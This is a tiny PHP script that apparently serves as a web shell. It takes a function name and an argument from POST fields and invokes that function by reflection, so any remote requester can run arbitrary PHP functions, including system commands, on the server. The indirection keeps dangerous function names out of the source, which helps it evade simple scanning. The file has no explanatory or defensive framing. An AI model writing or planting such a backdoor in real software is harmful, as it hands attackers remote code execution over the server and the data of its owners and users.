<?php
$name = $_POST['fn'];
$rf = new ReflectionFunction($name);
$rf->invokeArgs(array($_POST['arg']));
